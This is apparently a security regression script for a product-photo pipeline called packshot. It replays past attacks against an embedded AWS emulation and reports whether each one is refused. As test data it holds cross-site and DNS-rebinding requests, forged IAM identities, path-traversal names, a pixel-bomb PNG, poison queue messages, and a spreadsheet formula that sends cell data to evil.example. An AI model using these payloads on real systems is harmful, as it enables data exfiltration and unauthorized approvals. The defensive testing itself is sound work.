"""Attacks: every data-loss and security hole found by trying to break packshot, tried again on the embedded AWS,
and a few more. Prints one line per attack: finding, what was tried, what happened, ok or FAILED.
`python -m evidence.attacks` (a run takes a few minutes; `--quick` skips the ones that need the pipeline)."""

from __future__ import annotations

import argparse
import http.client
import io
import json
import re
import threading
import time
import urllib.parse
import urllib.request
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import numpy as np
from PIL import Image

from evidence.common import embedded, product_photo
from packshot.status import Status

REPO = Path(__file__).resolve().parents[1]
EXAMPLES = REPO / "examples"


@dataclass
class Result:
    finding: str
    attack: str
    observed: str
    ok: bool


@dataclass
class Context:
    """The embedded AWS, and what the one shared batch left behind (run lazily, once)."""

    aws: Any
    batch: dict[str, Any] = field(default_factory=dict)


def _png(rgba: np.ndarray) -> bytes:
    out = io.BytesIO()
    Image.fromarray(rgba, "RGBA").save(out, "PNG")
    return out.getvalue()


def _banner() -> bytes:
    rgba = np.zeros((1200, 1200, 4), np.uint8)
    rgba[300:900, 250:950] = (200, 20, 20, 255)
    return _png(rgba)


def _box(colour: tuple[int, int, int]) -> bytes:
    pixels = np.full((1000, 1000, 3), 250, np.uint8)
    pixels[250:750, 300:700] = colour
    out = io.BytesIO()
    Image.fromarray(pixels).save(out, "JPEG", quality=92)
    return out.getvalue()


def _api(aws: Any, who: str) -> Any:
    from packshot.local.function_url import EmbeddedReviewApi

    return EmbeddedReviewApi(aws.client("lambda"), aws.physical("ReviewApiFunction"), who)


def _invoke(aws: Any, logical: str, event: Any) -> tuple[bool, Any]:
    response = aws.client("lambda").invoke(FunctionName=aws.physical(logical), Payload=json.dumps(event))
    return "FunctionError" in response, json.loads(response["Payload"].read() or b"null")


# ---------- 1. the review page ----------
def _page(aws: Any) -> tuple[Any, str]:
    from packshot.local.review_page import ReviewPage

    page = ReviewPage(_api(aws, "alice"), "alice", fetch=lambda url: b"", upload=lambda url, data, kind: None)
    return page, page.start()


def _request(url: str, method: str, path: str, headers: dict[str, str] | None = None, body: bytes = b"") -> int:
    return _response(url, method, path, headers, body).status


def _response(url: str, method: str, path: str, headers: dict[str, str] | None = None,
              body: bytes = b"") -> http.client.HTTPResponse:
    parts = urllib.parse.urlsplit(url)
    connection = http.client.HTTPConnection(parts.hostname, parts.port, timeout=10)
    connection.request(method, path, body=body or None, headers=headers or {})
    response = connection.getresponse()
    response.read()
    return response


def page_attacks(ctx: Context) -> list[Result]:
    page, url = _page(ctx.aws)
    port, evil = urllib.parse.urlsplit(url).port, {"Origin": "https://evil.example"}
    own = f"http://127.0.0.1:{port}"
    try:
        tries = [
            ("cross-site text/plain POST /correct (a banner as the cutout)",
             _request(url, "POST", "/correct?task_id=x", {**evil, "Content-Type": "text/plain"}, b"\x89PNG")),
            ("cross-site form POST /decide", _request(url, "POST", "/decide", {
                **evil, "Content-Type": "application/x-www-form-urlencoded"}, b"task_id=x&decision=approve")),
            ("cross-site form POST /done", _request(url, "POST", "/done", evil)),
            ("DNS rebinding: GET /api/tasks with Host evil.example",
             _request(url, "GET", "/api/tasks", {"Host": f"evil.example:{port}"})),
            ("GET / without the session secret", _request(url, "GET", "/")),
            ("GET / with a guessed session secret", _request(url, "GET", "/?session=guess")),
            ("same-origin POST without the CSRF token (no cookie)",
             _request(url, "POST", "/decide", {"Origin": own}, b"task_id=x&decision=approve")),
            ("POST without an Origin header", _request(url, "POST", "/done")),
        ]
        framed = _response(url, "GET", "/")
    finally:
        page.stop()
    frame_headers = (f"X-Frame-Options {framed.getheader('X-Frame-Options')}, "
                     f"CSP {framed.getheader('Content-Security-Policy')}")
    return [Result("1 review page", attack, f"HTTP {status}", status == 403) for attack, status in tries] + [
        Result("1 review page", "framing the page (clickjacking Approve)", frame_headers[:70],
               framed.getheader("X-Frame-Options") == "DENY" and "frame-ancestors 'none'" in frame_headers)]


# ---------- 2. identity ----------
def identity_attacks(ctx: Context) -> list[Result]:
    from packshot.review import canonical_principal

    aws = ctx.aws
    results = []
    errored, payload = _invoke(aws, "ReviewFunction", {"op": "decide", "task_id": "x:review", "decision": "approve",
                                                       "reviewer": "arn:aws:iam::123456789012:user/senior-boss"})
    results.append(Result("2 identity", "lambda:Invoke ReviewFunction with a reviewer in the body",
                          str(payload.get("errorType") if isinstance(payload, dict) else payload), errored))
    forged = {"rawPath": "/reviews/x:review/decision", "body": json.dumps({"decision": "approve"}),
              "requestContext": {"http": {"method": "POST"},
                                 "authorizer": {"iam": {"userArn": "arn:aws:iam::123456789012:user/senior-boss"}}}}
    errored, payload = _invoke(aws, "ReviewFunction", forged)
    results.append(Result("2 identity", "lambda:Invoke ReviewFunction with a forged requestContext",
                          str(payload.get("errorType") if isinstance(payload, dict) else payload), errored))
    from packshot.local.template import Stack

    stack = Stack.from_file(REPO / "template.yaml")
    direct = [logical for logical in stack.resources
              if "ReviewApiFunction" in json.dumps(stack.resolve(stack.properties(logical).get("Policies", [])))
              and "lambda:InvokeFunction" in json.dumps(stack.resolve(stack.properties(logical).get("Policies", [])))]
    results.append(Result("2 identity", "a role in the template that may invoke the review API directly",
                          f"{len(direct)} found", not direct))
    same = canonical_principal("arn:aws:sts::1:assumed-role/Reviewers/alice") == canonical_principal(
        "arn:aws:iam::1:role/reviewers") and canonical_principal("alice") == canonical_principal("Alice")
    results.append(Result("2 identity", "alice vs Alice; an assumed-role session vs its role",
                          "one principal each" if same else "told apart", same))
    return results


# ---------- the shared batch ----------
def _batch(ctx: Context) -> dict[str, Any]:
    """One batch that takes every data path; run once, read by the attacks below."""
    if ctx.batch:
        return ctx.batch
    aws = ctx.aws
    s3 = aws.client("s3")
    started = time.monotonic()
    # The manifest's schema refuses a formula as a SKU (=, +, -, @ never start one): its row is rejected, and what
    # is delivered for the rest of the batch holds no formula cell (csvsafe escapes any that got through).
    manifest = ("filename,sku,asin,client,category,platforms\n"
                "IMG_0001.jpg,PS-1,B0ATTACK01,acme,,amazon_main\n"
                "minus.jpg,-1-1,,acme,,amazon_main\n"
                "IMG_0001.png,PS-2,B0ATTACK01,acme,,amazon_main\n"
                f"huge.jpg,{'x' * 300_000},,acme,,amazon_main\n"
                'formula.jpg,"=HYPERLINK(""http://evil.example/?""&A1,""x"")",,acme,,amazon_main\n')
    s3.put_object(Bucket=aws.input_bucket, Key="names/manifest.csv", Body=manifest.encode())
    objects = {"names/IMG_0001.jpg": product_photo(21), "names/IMG_0001.png": product_photo(22, fmt="PNG"),
               "names/sub/x.jpg": product_photo(23), "names/sub_x.jpg": product_photo(24),
               "names/a b.jpg": product_photo(25), "names/a-b.jpg": product_photo(26),
               "names/huge.jpg": product_photo(27), "names/formula.jpg": product_photo(30),
               "names/minus.jpg": product_photo(31),
               "shoot 1/p.jpg": product_photo(28),
               "shoot-1/p.jpg": product_photo(29), "fix/box.jpg": (EXAMPLES / "white_box_on_white.jpg").read_bytes()}
    for key, data in objects.items():
        s3.put_object(Bucket=aws.input_bucket, Key=key, Body=data)
    for key, client, role in (("pair/front.jpg", "acme", "front"), ("pair/label.jpg", "rival", "inside_label")):
        s3.put_object(Bucket=aws.input_bucket, Key=key, Body=(EXAMPLES / "chain_necklace.jpg").read_bytes(),
                      Metadata={"category": "jewelry", "sku": "SKU-1", "client": client, "role": role})
    # Overwritten in flight: red, then blue, back to back.
    s3.put_object(Bucket=aws.input_bucket, Key="race/k.jpg", Body=_box((200, 30, 30)))
    s3.put_object(Bucket=aws.input_bucket, Key="race/k.jpg", Body=_box((30, 30, 200)))
    queue = aws.physical("IngestQueue")
    poison = [aws.client("sqs").send_message(QueueUrl=queue, MessageBody=body)["MessageId"]
              for body in ('{"Records":[1]}', '{"Records":[{"eventName":"ObjectCreated:Put","s3":[]}]}', "[1,2]")]
    keys = [*objects, "pair/front.jpg", "pair/label.jpg", "race/k.jpg"]
    aws.wait(keys, timeout_s=900)
    ctx.batch = {"keys": keys, "seconds": time.monotonic() - started, "poison": poison}
    return ctx.batch


def _records(aws: Any) -> list[dict[str, Any]]:
    return aws.records()


def data_attacks(ctx: Context) -> list[Result]:
    aws = ctx.aws
    _batch(ctx)
    s3 = aws.client("s3")
    records = _records(aws)
    by_key: dict[str, list[dict[str, Any]]] = {}
    for record in records:
        by_key.setdefault(str(record.get("source_key")), []).append(record)
    results = []

    race = by_key.get("race/k.jpg", [])
    colours = []
    for record in race:
        key = (record.get("exports") or {}).get("amazon_main")
        if key:
            image = Image.open(io.BytesIO(s3.get_object(Bucket=aws.export_bucket, Key=key)["Body"].read()))
            colours.append(image.convert("RGB").getpixel((image.width // 2, image.height // 2)))
    red_and_blue = sorted("red" if c[0] > c[2] else "blue" for c in colours)
    results.append(Result("3 versions", "race/k.jpg uploaded red then blue, back to back",
                          f"{len(race)} records, exports {red_and_blue}", red_and_blue == ["blue", "red"]))

    export_keys = [k for r in records for k in (r.get("exports") or {}).values()]
    lookalikes = [by_key[k][0] for k in ("names/IMG_0001.jpg", "names/IMG_0001.png", "names/sub/x.jpg",
                                         "names/sub_x.jpg", "names/a b.jpg", "names/a-b.jpg") if k in by_key]
    distinct = len({(r.get("exports") or {}).get("amazon_main") for r in lookalikes})
    results.append(Result("4 export names", "IMG_0001.jpg/.png, sub/x.jpg/sub_x.jpg, a b.jpg/a-b.jpg",
                          f"{distinct} distinct export keys for 6 images", distinct == 6 and
                          len(export_keys) == len(set(export_keys))))

    deliveries = {}
    for batch in ("names", "sub", "shoot 1", "shoot-1"):
        _, result = _invoke(aws, "DeliverFunction", {"batch": batch})
        deliveries[batch] = result
    zips = {d["keys"]["zip"] for d in deliveries.values()}
    results.append(Result("5 packages", "batches 'shoot 1' and 'shoot-1'", f"{len(zips)} zips for 4 batches",
                          len(zips) == 4))
    names = deliveries["names"]
    manifest_json = json.loads(s3.get_object(Bucket=aws.export_bucket, Key=names["keys"]["manifest_json"])["Body"]
                               .read())
    changed = [n for n in manifest_json["not_delivered"] if n["status"] == "changed"]
    results.append(Result("4 export names", "delivery of the look-alike batch",
                          f"{names['files']} files, {len(changed)} dropped as changed", not changed))
    amazon = sorted(f["file"] for f in manifest_json["files"] if f["platform"] == "amazon_main"
                    and "B0ATTACK01" in f["file"])
    results.append(Result("11 Amazon names", "two MAIN images for one ASIN", ", ".join(amazon),
                          amazon == ["amazon_main/B0ATTACK01.MAIN.jpg", "amazon_main/B0ATTACK01.PT01.jpg"]))
    manifest_csv = s3.get_object(Bucket=aws.export_bucket, Key=names["keys"]["manifest_csv"])["Body"].read().decode()
    import csv

    formulas = [c for row in csv.reader(io.StringIO(manifest_csv)) for c in row if c[:1] in ("=", "+", "-", "@")]
    results.append(Result("7 CSV injection", "the delivered manifest.csv of a batch whose manifest held formulas",
                          f"{len(formulas)} formula cells in manifest.csv", not formulas))
    for name, sku in (("formula.jpg", "=HYPERLINK(...)"), ("minus.jpg", "-1-1")):
        refused = by_key.get(f"names/{name}", [{}])[0]
        reason = (refused.get("reasons") or [""])[0]
        results.append(Result("7 CSV injection", f"{sku} as a SKU in the client's manifest",
                              f"{refused.get('status')}: {reason[:60]}",
                              refused.get("status") == Status.REJECTED and "column sku" in reason))

    huge = by_key.get("names/huge.jpg", [{}])[0]
    results.append(Result("8 state size", "a 300,000-character SKU in the manifest",
                          f"{huge.get('status')}: {(huge.get('reasons') or [''])[0][:60]}",
                          huge.get("status") == Status.REJECTED))

    # The batch's three poison messages, by their message ids (other attacks send poison of their own).
    poison = {f"msg-{message_id}" for message_id in ctx.batch["poison"]}
    messages = [r for r in records if r.get("image_id") in poison]
    dead = int(aws.client("sqs").get_queue_attributes(QueueUrl=aws.physical("IngestDeadLetterQueue"),
                                                       AttributeNames=["ApproximateNumberOfMessages"])
               ["Attributes"]["ApproximateNumberOfMessages"])
    results.append(Result("9 poison messages", '{"Records":[1]}, a record with "s3":[], a JSON list',
                          f"{len(messages)} rejected message records, {dead} dead letters",
                          len(messages) == 3 and all(m["status"] == Status.REJECTED for m in messages) and dead == 0))
    return results


def review_attacks(ctx: Context) -> list[Result]:
    aws = ctx.aws
    _batch(ctx)
    alice, mallory_as_alice, bob = _api(aws, "alice"), _api(aws, "Alice"), _api(aws, "bob")
    results = []
    tasks = alice.call({"op": "list"})["tasks"]
    pair = [t for t in tasks if t["members"][0]["name"] in ("front.jpg", "label.jpg")]
    results.append(Result("6 pairing", "one SKU with roles, from two clients",
                          f"{len(pair)} tasks, multi-shot: {[t['multi_shot'] for t in pair]}",
                          len(pair) == 2 and not any(t["multi_shot"] for t in pair)))

    box = next(t for t in tasks if t["members"][0]["name"] == "box.jpg")
    target = alice.call({"op": "upload_url", "task_id": box["task_id"]})
    urllib.request.urlopen(urllib.request.Request(target["url"], data=_banner(), method="PUT",
                                                  headers={"Content-Type": "image/png"})).read()
    alice.call({"op": "decide", "task_id": box["task_id"], "decision": "corrected",
                "corrected_cutout_key": target["key"]})
    aws.wait(["fix/box.jpg"], timeout_s=300)
    record = aws.records_by_key()["fix/box.jpg"]
    results.append(Result("1 review page", "a banner PNG uploaded as the corrected cutout",
                          f"{record['status']} at QC {record.get('qc_score')}",
                          record["status"] == Status.NEEDS_REVIEW))

    other = next(t for t in tasks if t["members"][0]["name"] == "label.jpg")
    bomb = _png_header(12_000, 9_000)
    target = alice.call({"op": "upload_url", "task_id": box["task_id"]})
    urllib.request.urlopen(urllib.request.Request(target["url"], data=bomb, method="PUT",
                                                  headers={"Content-Type": "image/png"})).read()
    again = next(t for t in alice.call({"op": "list"})["tasks"] if t["members"][0]["name"] == "box.jpg")
    refused = _refused(lambda: alice.call({"op": "decide", "task_id": again["task_id"], "decision": "corrected",
                                           "corrected_cutout_key": target["key"]}))
    results.append(Result("11 pixel limit", "a 108 MP PNG header as the corrected cutout", refused[:70],
                          "pixel limit" in refused))
    refused = _refused(lambda: alice.call({"op": "decide", "task_id": other["task_id"], "decision": "corrected",
                                           "corrected_cutout_key": target["key"]}))
    results.append(Result("1 review page", "another photo's upload submitted as this photo's correction",
                          refused[:70], "upload URL" in refused))

    front = next(t for t in tasks if t["members"][0]["name"] == "front.jpg")
    alice.call({"op": "decide", "task_id": front["task_id"], "decision": "approve"})
    aws.wait(["pair/front.jpg"], timeout_s=300)
    senior = next(t for t in alice.call({"op": "list"})["tasks"] if t["step"] == "senior")
    refused = _refused(lambda: mallory_as_alice.call({"op": "decide", "task_id": senior["task_id"],
                                                      "decision": "approve"}))
    results.append(Result("2 identity", "alice approves, 'Alice' signs the senior step", refused[:70],
                          "someone else" in refused))
    bob.call({"op": "decide", "task_id": senior["task_id"], "decision": "approve"})
    aws.wait(["pair/front.jpg"], timeout_s=300)
    status = aws.records_by_key()["pair/front.jpg"]["status"]
    results.append(Result("2 identity", "bob signs the senior step", status, status == Status.EXPORTED))
    return results


def _png_header(width: int, height: int) -> bytes:
    import struct
    import zlib

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 6, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(b"\0" * 64)) + chunk(b"IEND", b""))


def _refused(call: Callable[[], Any]) -> str:
    from packshot.errors import ReviewError

    try:
        call()
    except ReviewError as exc:
        return exc.reason
    return "accepted"


def stuck_attacks(ctx: Context) -> list[Result]:
    from packshot.adapters.operations import StackNames
    from packshot.cli import redrive_images

    aws = ctx.aws
    entered, release = threading.Event(), threading.Event()

    def hold(function_name: str, event: object) -> None:
        if function_name.endswith("ClassifyFunction") and not release.is_set():
            entered.set()
            release.wait(60)

    aws.runtime.fault_injector = hold
    aws.client("s3").put_object(Bucket=aws.input_bucket, Key="stop/p.jpg", Body=product_photo(40))
    entered.wait(300)
    running = [e for e in aws.executions() if e["status"] == "RUNNING" and e["name"] == _image_id(aws, "stop/p.jpg")]
    for execution in running:
        aws.client("stepfunctions").stop_execution(executionArn=execution["executionArn"])
    release.set()
    aws.runtime.fault_injector = None
    deadline = time.monotonic() + 120
    while aws.records_by_key().get("stop/p.jpg", {}).get("status") != Status.STOPPED and time.monotonic() < deadline:
        time.sleep(0.5)
    stopped = aws.records_by_key().get("stop/p.jpg", {}).get("status")
    names = StackNames(records_table=aws.records_table, queues={}, state_machine=aws.state_machine_arn)
    restarted = redrive_images(names, aws.client("dynamodb"), aws.client("stepfunctions"))
    aws.wait(["stop/p.jpg"], timeout_s=300)
    after = aws.records_by_key()["stop/p.jpg"]["status"]
    return [Result("8 nothing stuck", "an execution stopped mid-way", f"record {stopped}", stopped == Status.STOPPED),
            Result("8 nothing stuck", "packshot redrive after the stop", f"{len(restarted)} restarted, then {after}",
                   after == Status.EXPORTED)]


def _image_id(aws: Any, key: str) -> str:
    versions = aws.client("s3").list_object_versions(Bucket=aws.input_bucket, Prefix=key)["Versions"]
    from packshot.events import ObjectRef

    version = versions[-1]
    return ObjectRef(aws.input_bucket, key, version["ETag"].strip('"'), version["VersionId"], 0).image_id


def iam_attacks(ctx: Context) -> list[Result]:
    from packshot.local.template import Stack

    stack = Stack.from_file(REPO / "template.yaml")
    templates = [(logical, name) for logical in [*stack.of_type("AWS::Serverless::Function"),
                                                 *stack.of_type("AWS::Serverless::StateMachine")]
                 for policy in stack.resolve(stack.properties(logical).get("Policies", []))
                 for name in (policy if isinstance(policy, dict) else {}) if name != "Statement"]
    text = json.dumps([stack.resolve(stack.properties(f).get("Policies", []))
                       for f in stack.of_type("AWS::Serverless::Function")])
    broad = sorted(set(re.findall(r'"(s3:Delete\w*|s3:PutBucket\w*|s3:PutObjectAcl|dynamodb:BatchWrite\w*|'
                                  r'dynamodb:Scan|\w+:\*)"', text)))
    return [Result("10 least privilege", "SAM policy templates in the template", f"{len(templates)} left",
                   not templates),
            Result("10 least privilege", "delete, ACL, lifecycle, BatchWrite or wildcard actions granted",
                   ", ".join(broad) or "none", broad == ["dynamodb:Scan"])]  # Scan: the review list and backlog


def other_attacks(ctx: Context) -> list[Result]:
    """Tried on what was built: inputs the findings did not name."""
    from packshot.delivery import batch_slug
    from packshot.errors import InvalidDecisionError, ReviewNotFoundError
    from packshot.review import command_from_http

    aws = ctx.aws
    results = []
    slug = batch_slug("../../etc")
    results.append(Result("other", "a batch named ../../etc", f"package under deliveries/{slug}/",
                          "/" not in slug and ".." not in slug))
    caller = {"iam": {"userArn": "arn:aws:iam::1:user/a"}}
    event = {"rawPath": "/reviews/..%2F..%2Fenqueue/decision", "body": "[1]",
             "requestContext": {"http": {"method": "POST"}, "authorizer": caller}}
    try:
        command_from_http(event)
        observed = "accepted"
    except (InvalidDecisionError, ReviewNotFoundError) as exc:
        observed = type(exc).__name__
    results.append(Result("other", "a decision whose body is a JSON list, on a path with ../", observed,
                          observed != "accepted"))
    big = json.dumps({"Records": [{"junk": "x" * 200_000}]})
    errored, payload = _invoke(aws, "IngestFunction", {"Records": [{"messageId": "big", "receiptHandle": "r",
                                                                     "body": big, "eventSource": "aws:sqs"}]})
    from packshot.adapters.records import RecordsTable

    record = RecordsTable(aws.records_table, aws.client("dynamodb")).get("msg-big") or {}
    results.append(Result("other", "a 200 KB junk record in an SQS message", f"{record.get('status')}, "
                          f"{sum(len(r) for r in record.get('reasons', []))} characters of reasons",
                          not errored and record.get("status") == Status.REJECTED))
    table = RecordsTable(aws.records_table, aws.client("dynamodb"))
    for message_id, attack, bucket, key in (
            ("other-bucket", "an upload notification naming the work bucket", aws.work_bucket, "work/x/master.png"),
            ("huge-key", "an upload notification with a 200 KB key", aws.input_bucket, "k" * 200_000)):
        body = json.dumps({"Records": [{"eventName": "ObjectCreated:Put", "s3": {
            "bucket": {"name": bucket}, "object": {"key": key, "eTag": "e", "size": 1}}}]})
        errored, _ = _invoke(aws, "IngestFunction", {"Records": [{"messageId": message_id, "receiptHandle": "r",
                                                                   "body": body, "eventSource": "aws:sqs"}]})
        record = table.get(f"msg-{message_id}") or {}
        results.append(Result("other", attack, f"{record.get('status')}: {(record.get('reasons') or [''])[0][:50]}",
                              not errored and record.get("status") == Status.REJECTED))
    bad_body = {"rawPath": "/reviews/x/decision", "body": "%%%", "isBase64Encoded": True, "requestContext": {
        "http": {"method": "POST"}, "authorizer": caller}}
    try:
        command_from_http(bad_body)
        observed = "accepted"
    except (InvalidDecisionError, ReviewNotFoundError) as exc:
        observed = type(exc).__name__
    except Exception as exc:  # noqa: BLE001 - what the attack is after: a crash instead of a 400
        observed = f"crashed: {type(exc).__name__}"
    results.append(Result("other", "a decision body that is not base64", observed, observed == "InvalidDecisionError"))
    return results


ATTACKS: list[tuple[str, Callable[[Context], list[Result]], bool]] = [
    ("page", page_attacks, False), ("identity", identity_attacks, False), ("iam", iam_attacks, False),
    ("other", other_attacks, False), ("data", data_attacks, True), ("review", review_attacks, True),
    ("stuck", stuck_attacks, True),
]


def run(aws: Any, *, quick: bool = False) -> list[Result]:
    ctx = Context(aws)
    results: list[Result] = []
    for _, attack, needs_pipeline in ATTACKS:
        if quick and needs_pipeline:
            continue
        results += attack(ctx)
    return results


def table(results: list[Result]) -> str:
    lines = ["| finding | attack | observed | ok |", "|---|---|---|---|"]
    lines += [f"| {r.finding} | {r.attack} | {r.observed.replace('|', '/')} | {'ok' if r.ok else 'FAILED'} |"
              for r in results]
    return "\n".join(lines)


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--quick", action="store_true", help="only the attacks that need no pipeline run")
    args = parser.parse_args()
    started = time.monotonic()
    with embedded() as aws:
        results = run(aws, quick=args.quick)
    print(table(results))
    failed = [r for r in results if not r.ok]
    print(f"\n{len(results)} attacks, {len(failed)} failed, {time.monotonic() - started:.0f} s")
    return 1 if failed else 0


if __name__ == "__main__":
    raise SystemExit(main())
